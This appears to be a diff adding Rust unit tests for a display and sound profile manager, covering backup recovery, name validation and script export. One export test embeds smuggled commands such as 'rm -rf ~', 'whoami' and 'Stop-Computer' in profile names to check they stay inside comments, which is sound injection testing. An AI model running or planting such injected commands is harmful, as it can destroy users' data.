+        let (profiles, recovery) = read_profiles_file_recovering(&path).unwrap();
+        assert_eq!(profiles.len(), 1);
+        let recovery = recovery.unwrap();
+        assert!(std::path::Path::new(&recovery.corrupt_file).exists());
+        assert_eq!(read_profiles_file(&path).unwrap().len(), 1);
+
+        assert!(recovery.restored_from_backup);
+
+        // 백업도 손상되었으면 손상된 파일을 옮겨 두고 빈 목록, 더 새로운 형식은 버전 오류
+        fs::write(&path, "[").unwrap();
+        fs::write(profiles_backup_file(&path), "").unwrap();
+        let (profiles, recovery) = read_profiles_file_recovering(&path).unwrap();
+        assert!(profiles.is_empty() && !recovery.unwrap().restored_from_backup);
+        assert!(!path.exists());
+        fs::write(&path, r#"{"schema_version": 99, "profiles": []}"#).unwrap();
+        assert!(matches!(read_profiles_file(&path), Err(AppError::UnsupportedProfilesVersion { .. })));
+        fs::write(&path, r#"{"version": 2, "profiles": []}"#).unwrap();
+        assert!(read_profiles_file(&path).unwrap().is_empty());
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn exported_scripts_keep_names_inside_comments() {
+        let mut desk = profile("Desk\nrm -rf ~", Some("Speakers\r\necho hi"));
+        desk.displays[0].name = "Monitor\nStop-Computer".to_string();
+        for kind in [ScriptKind::Shell, ScriptKind::PowerShell] {
+            let script = profile_to_script(&desk, kind, "2024-01-01\nwhoami");
+            assert!(script.contains("# Display Sound Manager 프로필: Desk rm -rf ~ (desk rm -rf ~)"));
+            assert!(script.contains("# 생성일: 2024-01-01 whoami"));
+            assert!(script.contains("Speakers  echo hi"));
+            assert!(!script.lines().any(|line| ["rm", "echo", "whoami", "Stop-Computer"]
+                .iter()
+                .any(|command| line.starts_with(command))));
+        }
+        let powershell = profile_to_script(&desk, ScriptKind::PowerShell, "");
+        assert!(powershell.contains("#   Monitor Stop-Computer: 1920x1080"));
+        assert_eq!(powershell_quote("it’s"), "'it’’s'");
+    }
+
+    #[test]
+    fn suggest_profile_name_appends_counter() {
+        let profiles = [profile("Studio", None), profile("studio (2)", None)];
+        assert_eq!(suggest_profile_name(" Desk ", &profiles), "Desk");
+        assert_eq!(suggest_profile_name("Studio", &profiles), "Studio (3)");
+        assert_eq!(suggest_profile_name("STUDIO", &[]), "STUDIO");
+    }
+
+    #[test]
+    fn profile_names_must_be_present_and_unique() {
+        let profiles = [profile("Desk", None), profile("Studio", None)];
+        assert_eq!(validate_profile_name(" Office ", "new", &profiles).unwrap(), "Office");
+        // 자기 자신의 이름은 그대로 둘 수 있습니다 (대소문자만 바꾸기)
+        assert_eq!(validate_profile_name("DESK", "desk", &profiles).unwrap(), "DESK");
+        assert!(matches!(
+            validate_profile_name("desk ", "studio", &profiles),
+            Err(AppError::ProfileNameTaken { profile_id, .. }) if profile_id == "desk"
+        ));
+        assert!(matches!(validate_profile_name("  ", "desk", &profiles), Err(AppError::EmptyProfileName { .. })));
+    }
+
+    #[test]
+    fn resolves_profiles_by_id_then_name() {
+        let mut twin = profile("Desk Setup", None);
+        twin.id = "desk-2".to_string();
+        let profiles = [profile("Desk Setup", None), profile("Studio", None), twin];
+        assert_eq!(resolve_profile(&profiles, "studio").unwrap().name, "Studio");
+        assert_eq!(resolve_profile(&profiles, " STUDIO ").unwrap().id, "studio");
+        assert_eq!(resolve_profile(&profiles, "desk-2").unwrap().id, "desk-2");
+        assert!(matches!(
+            resolve_profile(&profiles, "Desk Setup"),
+            Err(AppError::AmbiguousProfileName { profile_ids, .. }) if profile_ids == "desk setup, desk-2"
+        ));
+        assert!(matches!(resolve_profile(&profiles, "Office"), Err(AppError::ProfileNotFound { .. })));
+    }
+}